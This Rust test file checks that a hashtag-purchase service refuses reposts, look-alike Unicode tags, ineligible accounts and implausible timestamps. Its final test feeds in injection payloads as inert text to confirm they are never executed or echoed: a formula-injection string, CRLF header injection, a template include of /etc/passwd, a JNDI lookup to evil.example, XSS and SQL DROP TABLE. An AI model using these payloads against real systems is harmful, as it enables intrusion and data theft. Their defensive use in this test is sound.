//! Valid posts that must not buy: another author's, too late, with a tag that only resembles one.

use std::cell::Cell;
use std::sync::LazyLock;

use flashtag::clock::Clock;
use flashtag::domain::time::Timestamp;
use serde_json::{Value, json};

use super::snapshot::{Scene, outcome_counter};
use crate::books;
use crate::crash::poll;
use crate::http::client::{Reply, exchange, request};
use crate::http::served::{Served, post, post_at};

/// Offers with one rule each, beside the usual two.
static OFFERS: LazyLock<String> = LazyLock::new(|| {
    let table = [
        ("past", "units = 3", "2021-01-01T00:00:00Z", "confirm_within = \"0s\""),
        ("scarce", "units = 1", "2090-01-01T00:00:00Z", "waitlist = false"),
        ("gone", "units = 1", "2090-01-01T00:00:00Z", "confirm_within = \"0s\""),
        ("paced", "units = 9", "2090-01-01T00:00:00Z", "account_pace = \"1 per 1h\""),
        ("capped", "units = 9", "2090-01-01T00:00:00Z", "limit_per_account = 2\nspend_cap = \"10.00 USD\""),
        ("shared", "units = 9", "2090-01-01T00:00:00Z", "limit_per_card = 1"),
        ("grown", "units = 9", "2090-01-01T00:00:00Z", "account_age = \"30d\""),
        ("hasty", "units = 9", "2090-01-01T00:00:00Z", "confirm_within = \"1s\"\nlate_grace = \"1h\""),
    ];
    let offer = |(id, units, closes, rule): &(&str, &str, &str, &str)| {
        let name = format!("{}{}", id[..1].to_uppercase(), &id[1..]);
        let confirm =
            if rule.contains("\"0s\"") { String::new() } else { format!(", confirm = \"Confirm{name}\"") };
        format!(
            "[[offer]]\nid = \"{id}\"\nkind = \"purchase\"\ntitle = \"{name}\"\ntags = {{ buy = \"Buy{name}\"{confirm} }}\n\
             price = \"10.00 USD\"\n{units}\nopens = \"2020-01-01T00:00:00Z\"\ncloses = \"{closes}\"\n{rule}\n\n"
        )
    };
    let soon = "[[offer]]\nid = \"soon\"\nkind = \"purchase\"\ntitle = \"Soon\"\ntags = { buy = \"BuySoon\" }\nprice = \"10.00 USD\"\n\
                units = 3\nopens = \"2089-01-01T00:00:00Z\"\ncloses = \"2090-01-01T00:00:00Z\"\nconfirm_within = \"0s\"\n\n";
    table.iter().map(offer).collect::<String>() + soon
});

/// The earlier posts of accounts 1 to 9.
const BEFORE: [(u32, &str); 9] = [
    (1, "#BuyKindle"),
    (2, "#BuyPot"),
    (3, "@Shop FREEZE"),
    (4, "#BuyScarce"),
    (5, "#BuyGone"),
    (6, "#BuyPaced"),
    (7, "#BuyShared"),
    (8, "#BuyCapped"),
    (9, "#BuyHasty"),
];

fn scene() -> Scene {
    let served = Served::selling(&OFFERS);
    let card = |token: &str, funding: &str| {
        format!(
            r#"{{"card":{{"token":"{token}","brand":"amex","funding":"{funding}","last4":"1005"}},"email":"a@b.example","region":"US-NY"}}"#
        )
    };
    assert_eq!(served.put("/v1/accounts/x/20", &card("tok_20", "prepaid")).status, 200);
    assert_eq!(served.put("/v1/accounts/x/21", &card("tok_7", "credit")).status, 200);
    for (author, text) in BEFORE {
        let reply = served.post(post(&author.to_string(), author, text));
        let outcome = reply.lines()[0]["outcome"].clone();
        assert!(["reserved", "confirmed", "frozen"].map(Value::from).contains(&outcome), "{text}: {reply:?}");
    }
    // Later effects would pass for traces of refused input, so every account but the frozen one gets a reply
    // first.
    let replies = || books::text(&served.data().join("replies.ndjson"));
    let replied = |replies: &String, author: u32| replies.contains(&format!(r#""in_reply_to":"{author}""#));
    poll(replies, |replies| BEFORE.iter().all(|(author, _)| *author == 3 || replied(replies, *author)));
    Scene::of(served)
}

/// A post of an author with additional fields, published now.
fn post_line(id: u32, author: u32, text: &str, fields: Value) -> String {
    let mut post = json!({"network": "x", "id": id.to_string(), "author": {"id": author.to_string()},
        "posted_at": Clock::start().now().to_string(), "text": text});
    let more = fields.as_object().unwrap();
    post.as_object_mut().unwrap().extend(more.iter().map(|(name, value)| (name.clone(), value.clone())));
    post.to_string()
}

/// Asserts that the post gets this outcome and leaves no trace but a count.
#[track_caller]
fn assert_outcome(scene: &mut Scene, name: &str, target: &str, line: &str, outcome: &str) -> Reply {
    let reply = exchange(scene.served.address, &request("POST", target, &[], line.as_bytes()));
    assert_eq!(reply.status, 200, "{name}: {reply:?}");
    let answer = &reply.lines()[0];
    let found = if answer["duplicate"] == true { "duplicate".into() } else { answer["outcome"].clone() };
    assert_eq!(found, outcome, "{name}: {reply:?}");
    let count = outcome_counter(outcome);
    let both = [count.as_str(), "flashtag_posts_total"];
    // A post that concerns no offer reaches no partition.
    scene.must_have_counted(name, if outcome == "not_relevant" { &both[1..] } else { &both });
    reply
}

#[test]
fn a_post_that_is_not_the_authors_own_buys_nothing() {
    let mut scene = scene();
    let table = [
        ("a repost of a claim", 40, "#BuyKindle", json!({"repost_of": "1"}), "repost"),
        ("the buyer's repost of a confirmation", 1, "#ConfirmKindle", json!({"repost_of": "777"}), "repost"),
        ("a confirmation in a quotation", 1, "“@Shop: post #ConfirmKindle” ok", json!({}), "manual_repost"),
        (
            "a confirmation ascribed to another",
            1,
            "post #ConfirmKindle (via @Shop)",
            json!({}),
            "manual_repost",
        ),
        ("a repost by hand", 40, "RT @ana: #BuyKindle", json!({}), "manual_repost"),
        (
            "the buyer's repost of the shop by hand",
            1,
            "RT @Shop: post #ConfirmKindle",
            json!({}),
            "manual_repost",
        ),
        ("the shop's own claim", 9001, "#BuyKindle", json!({}), "own_post"),
        ("the shop's own confirmation", 9001, "#ConfirmKindle", json!({"in_reply_to": "1"}), "own_post"),
        ("a later version", 1, "#ConfirmKindle", json!({"edited": true}), "edited"),
        ("the same claim again", 1, "#BuyKindle", json!({"id": "1"}), "duplicate"),
        ("a second claim", 1, "#BuyKindle", json!({}), "already_reserved"),
        ("an account that is not linked", 99, "#BuyKindle", json!({}), "not_linked"),
        ("the same number elsewhere", 1, "#BuyKindle", json!({"network": "mastodon"}), "not_linked"),
        ("a deletion of what others wrote", 40, "", json!({"id": "1", "deleted": true}), "not_relevant"),
        ("a deletion after the order", 2, "", json!({"id": "2", "deleted": true}), "not_relevant"),
    ];
    for (number, (name, author, text, fields, outcome)) in (1000..).zip(table) {
        let line = post_line(number, author, text, fields);
        assert_outcome(&mut scene, name, "/v1/posts", &line, outcome);
    }
}

#[test]
fn reposts_are_recognized_in_every_networks_format() {
    let mut scene = scene();
    let now = Clock::start().now();
    let x = format!(
        r##"{{"data":{{"id":"2000","author_id":"40","created_at":"{now}","text":"RT @ana: #BuyKindle","referenced_tweets":[{{"type":"retweeted","id":"1"}}]}}}}"##
    );
    let blockquote = format!(
        r##"{{"id":"2001","created_at":"{now}","account":{{"uri":"https://m.example/users/a","acct":"a"}},"content":"<blockquote>#BuyKindle</blockquote>ok"}}"##
    );
    let edited = format!(
        r##"{{"data":{{"id":"2002","author_id":"1","created_at":"{now}","text":"#ConfirmKindle","edit_history_tweet_ids":["2000","2002"]}}}}"##
    );
    let mastodon = format!(
        r##"{{"id":"2003","created_at":"{now}","account":{{"uri":"https://m.example/users/a","acct":"a"}},"content":"","reblog":{{"id":"7","content":"<p>#BuyKindle</p>"}}}}"##
    );
    let private = format!(
        r##"{{"id":"2004","created_at":"{now}","visibility":"direct","account":{{"uri":"https://m.example/users/a","acct":"a"}},"content":"#BuyKindle"}}"##
    );
    for (name, form, line, outcome) in [
        ("a repost on X", "x", x, "repost"),
        ("a quotation on Mastodon", "mastodon", blockquote, "quoted"),
        ("a later version on X", "x", edited, "edited"),
        ("a repost on Mastodon", "mastodon", mastodon, "repost"),
    ] {
        assert_outcome(&mut scene, name, &format!("/v1/posts?format={form}"), &line, outcome);
    }
    let reply = exchange(
        scene.served.address,
        &request("POST", "/v1/posts?format=mastodon", &[], private.as_bytes()),
    );
    assert_eq!(reply.lines()[0]["outcome"], "not_relevant", "{reply:?}");
    scene.must_have_counted("a letter to few", &[]);
}

/// The first column is sent unchanged; none of these is the tag, whatever it resembles.
#[test]
fn look_alike_tags_buy_nothing() {
    let mut scene = scene();
    let table = [
        ("#Bu\u{443}Kindle", "look_alike_tag"),
        ("#BuyK\u{131}ndle", "look_alike_tag"),
        ("#BuyKind1e", "look_alike_tag"),
        ("#Buy\u{200D}Kindle", "look_alike_tag"),
        ("#Buy\u{200C}Kindle", "look_alike_tag"),
        ("#Buy\u{AD}Kindle", "not_relevant"),
        ("#\u{202E}BuyKindle", "not_relevant"),
        ("#BuyKindleNow", "not_relevant"),
        ("x#BuyKindle", "not_relevant"),
        ("https://shop.com/#BuyKindle", "not_relevant"),
        ("&#35;BuyKindle", "not_relevant"),
        ("BuyKindle", "not_relevant"),
        ("#BuyKindle x0", "not_relevant"),
        ("# BuyKindle", "not_relevant"),
    ];
    for (number, (text, outcome)) in (3000..).zip(table) {
        let line = post_line(number, 6, text, json!({}));
        assert_outcome(&mut scene, text, "/v1/posts", &line, outcome);
    }
    // The positive control: letters are equal in every form.
    for (number, text) in
        (3100..).zip(["#buykindle", "#BUYKINDLE", "＃ＢｕｙＫｉｎｄｌｅ", "#Buy\u{212A}indle"])
    {
        let reply = scene.served.post(post_line(number, 6, text, json!({})));
        let expected = if number == 3100 { "reserved" } else { "already_reserved" };
        assert_eq!(reply.lines()[0]["outcome"], expected, "{text}");
    }
}

#[test]
fn an_account_that_may_not_buy_is_refused() {
    let mut scene = scene();
    let new = json!({"author": {"id": "6", "created_at": Clock::start().now().to_string()}});
    let table = [
        ("a frozen account", 3, "#BuyKindle", json!({}), "frozen"),
        ("a prepaid card", 20, "#BuyKindle", json!({}), "card_ineligible"),
        ("a card that bought already, by another account", 21, "#BuyShared", json!({}), "limit_reached"),
        ("an account that bought already", 2, "#BuyPot", json!({}), "limit_reached"),
        ("an account of today", 6, "#BuyGrown", new, "account_too_new"),
        ("an account that is too fast", 6, "#BuyPaced", json!({}), "rate_limited"),
        ("more than may be spent", 6, "#BuyCapped x2", json!({}), "spend_cap"),
        ("all are reserved", 6, "#BuyScarce", json!({}), "fully_reserved"),
        ("all are sold", 6, "#BuyGone", json!({}), "sold_out"),
        ("the sale is over", 6, "#BuyPast", json!({}), "closed"),
        ("the sale is not open", 6, "#BuySoon", json!({}), "not_open"),
    ];
    for (number, (name, author, text, fields, outcome)) in (4000..).zip(table) {
        let line = post_line(number, author, text, fields);
        assert_outcome(&mut scene, name, "/v1/posts", &line, outcome);
        let again = assert_outcome(&mut scene, name, "/v1/posts", &line, "duplicate");
        assert_eq!(again.lines()[0]["outcome"], outcome, "{name}: the first answer is repeated");
    }
}

#[test]
fn posts_with_times_that_are_not_credible_buy_nothing() {
    let mut scene = scene();
    let now = Clock::start().now();
    let table = [
        ("of tomorrow", Timestamp::from_ms(now.ms() + 86_400_000), "future"),
        ("of another century", Timestamp::from_ms(9_000_000_000_000), "future"),
        ("of two hours ago", Timestamp::from_ms(now.ms() - 7_200_000), "stale"),
        ("of the beginning of time", Timestamp::MIN, "stale"),
    ];
    for (number, (name, at, outcome)) in (5000..).zip(table) {
        let line = post_at(at, &number.to_string(), 6, "#BuyKindle");
        assert_outcome(&mut scene, name, "/v1/posts", &line, outcome);
    }
    let served = &scene.served;
    let read = || served.get("/v1/offers/hasty/reservations").json()["reservations"][0]["deadline"].clone();
    // A delivered prompt restarts the window; afterwards nothing does.
    poll(
        || served.get("/metrics").body,
        |metrics| metrics.lines().any(|it| it == "flashtag_outbox_pending 0"),
    );
    let deadline: Timestamp = read().as_str().unwrap().parse().unwrap();
    // The grace is for the network, not for the buyer. The server's clock decides what is late: clocks that
    // were started at different times differ slightly.
    let ids = Cell::new(5200);
    let server_time = || -> Timestamp {
        let reply = served.post(post_line(ids.replace(ids.get() + 1), 6, "#BuyPast", json!({})));
        reply.lines()[0]["at"].as_str().unwrap().parse().unwrap()
    };
    poll(server_time, |at| *at >= deadline);
    let mut scene = scene.settle();
    let late = post_at(deadline, "5100", 9, "#ConfirmHasty");
    assert_outcome(&mut scene, "a confirmation at the deadline", "/v1/posts", &late, "confirm_late");
}

/// Another author's confirmation waits for a claim of that author only.
#[test]
fn an_account_cannot_confirm_for_another() {
    let scene = scene();
    let reservation =
        |scene: &Scene| scene.served.get("/v1/offers/kindle/reservations").json()["reservations"][0].clone();
    let before = reservation(&scene);
    let table = [
        ("in the buyer's thread", json!({"in_reply_to": "1"})),
        ("under the buyer's name", json!({"author": {"id": "6", "handle": "ana"}})),
        ("from another network", json!({"network": "mastodon"})),
    ];
    for (number, (name, fields)) in (6000..).zip(table) {
        let reply = scene.served.post(post_line(number, 6, "#ConfirmKindle", fields));
        let outcome = reply.lines()[0]["outcome"].clone();
        assert!(
            ["nothing_to_confirm", "not_linked"].map(Value::from).contains(&outcome),
            "{name}: {reply:?}"
        );
        assert_eq!(reservation(&scene), before, "{name}");
    }
    // Compares again: a parked confirmation is in the state, and in no offer.
    let mut scene = scene.settle();
    scene.must_have_counted("nothing", &[]);
}

#[test]
fn dangerous_text_is_only_text() {
    let mut scene = scene();
    let table = [
        "=cmd|' /C calc'!A0",
        "a\r\nBcc: all@shop.example\r\n\r\n",
        "{{ 7 * 7 }}{% include '/etc/passwd' %}",
        "%s%n%x ${jndi:ldap://evil.example/a}",
        "@everyone <script>alert(1)</script>",
        "'; DROP TABLE offers; --",
        "\u{202E}\u{2066}\u{FEFF}",
    ];
    for (number, text) in (7000..).zip(table) {
        let author = json!({"author": {"id": "6", "handle": text}});
        let line = post_line(number, 6, &format!("{text} #BuyPast"), author);
        let reply = assert_outcome(&mut scene, text, "/v1/posts", &line, "closed");
        reply.must_not_echo(text.trim());
    }
    let reply = scene.served.post(post("7100", 6, "4242 4242 4242 4242"));
    assert_eq!(reply.lines()[0]["outcome"], "not_relevant");
    let counted = ["flashtag_card_numbers_redacted_total", "flashtag_posts_total"];
    scene.must_have_counted("a card number", &counted);
}
